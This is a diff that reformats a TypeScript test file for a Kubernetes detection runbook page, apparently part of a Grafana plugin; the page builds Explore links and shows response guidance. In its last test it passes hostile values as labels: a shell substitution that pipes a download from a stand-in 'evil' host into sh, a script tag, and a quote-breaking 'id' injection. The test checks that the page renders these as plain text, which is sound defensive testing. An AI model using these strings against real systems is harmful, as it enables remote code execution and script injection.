@@ -33,8 +33,9 @@ function queryEscape(value: string): string {
 function runbookUrlFor(detectionId: string, labels: Record<string, string>): URL {
   const { groups } = buildCordonRules({ grafanaUrl: 'https://grafana.example.com', settings: DEFAULT_SETTINGS });
   const rule = groups.flatMap((group) => group.rules).find((candidate) => candidate.detectionId === detectionId)!;
-  const rendered = rule.annotations.runbook_url.replace(/\{\{ \$labels\.([a-z_]+) \| urlquery \}\}/g, (_match, name: string) =>
-    queryEscape(labels[name] ?? '')
+  const rendered = rule.annotations.runbook_url.replace(
+    /\{\{ \$labels\.([a-z_]+) \| urlquery \}\}/g,
+    (_match, name: string) => queryEscape(labels[name] ?? '')
   );
   return new URL(`${rendered}&time=${ALERT_TIME}`);
 }
@@ -55,7 +56,13 @@ function commandText(id: string): string {
   return screen.getByTestId(`command-${id}`).textContent ?? '';
 }
 
-const LABELS = { namespace: 'prod', pod: 'web-1', resource: 'pods', name: 'web-1', user: 'system:serviceaccount:ci:deployer' };
+const LABELS = {
+  namespace: 'prod',
+  pod: 'web-1',
+  resource: 'pods',
+  name: 'web-1',
+  user: 'system:serviceaccount:ci:deployer',
+};
 
 describe('RunbookPage', () => {
   test('reads the values of a generated runbook_url', () => {
@@ -77,25 +84,36 @@ describe('RunbookPage', () => {
 
     const links = screen.getAllByRole('link', { name: /open in explore/i });
     expect(links.length).toBeGreaterThan(1);
-    const podLink = links.map((link) => new URL(link.getAttribute('href')!, 'http://localhost')).find((href) => {
-      const panes = JSON.parse(href.searchParams.get('panes')!);
-      return panes.crd.queries[0].expr.includes('cordon_objectRef_namespace="prod"');
-    })!;
+    const podLink = links
+      .map((link) => new URL(link.getAttribute('href')!, 'http://localhost'))
+      .find((href) => {
+        const panes = JSON.parse(href.searchParams.get('panes')!);
+        return panes.crd.queries[0].expr.includes('cordon_objectRef_namespace="prod"');
+      })!;
     const pane = JSON.parse(podLink.searchParams.get('panes')!).crd;
     expect(pane.datasource).toBe('loki-uid');
-    expect(pane.range).toEqual({ from: String((ALERT_TIME - 15 * 60) * 1000), to: String((ALERT_TIME + 15 * 60) * 1000) });
+    expect(pane.range).toEqual({
+      from: String((ALERT_TIME - 15 * 60) * 1000),
+      to: String((ALERT_TIME + 15 * 60) * 1000),
+    });
   });
 
   test('shows the detection guidance from the catalog', () => {
     renderPage(`/a/cordon-detection-app/runbook/${DETECTION.id}`);
 
-    for (const step of [...DETECTION.response.investigate, ...DETECTION.response.contain, ...DETECTION.response.remediate]) {
+    for (const step of [
+      ...DETECTION.response.investigate,
+      ...DETECTION.response.contain,
+      ...DETECTION.response.remediate,
+    ]) {
       expect(screen.getByText(step)).toBeInTheDocument();
     }
     for (const lookAlike of DETECTION.falsePositives) {
       expect(screen.getByText(lookAlike)).toBeInTheDocument();
     }
-    expect(screen.getByRole('link', { name: `${DETECTION.technique.id} ${DETECTION.technique.name}` })).toBeInTheDocument();
+    expect(
+      screen.getByRole('link', { name: `${DETECTION.technique.id} ${DETECTION.technique.name}` })
+    ).toBeInTheDocument();
   });
 
   test('shows placeholders without alert values', () => {
@@ -108,7 +126,12 @@ describe('RunbookPage', () => {
   });
 
   test('renders crafted values as text', () => {
-    const url = runbookUrlFor(DETECTION.id, { ...LABELS, namespace: '$(curl evil|sh)', pod: '<script>alert(1)</script>', user: "x'; id; '" });
+    const url = runbookUrlFor(DETECTION.id, {
+      ...LABELS,
+      namespace: '$(curl evil|sh)',
+      pod: '<script>alert(1)</script>',
+      user: "x'; id; '",
+    });
     const { container } = renderPage(url.pathname + url.search);
 
     expect(container.querySelector('script')).toBeNull();
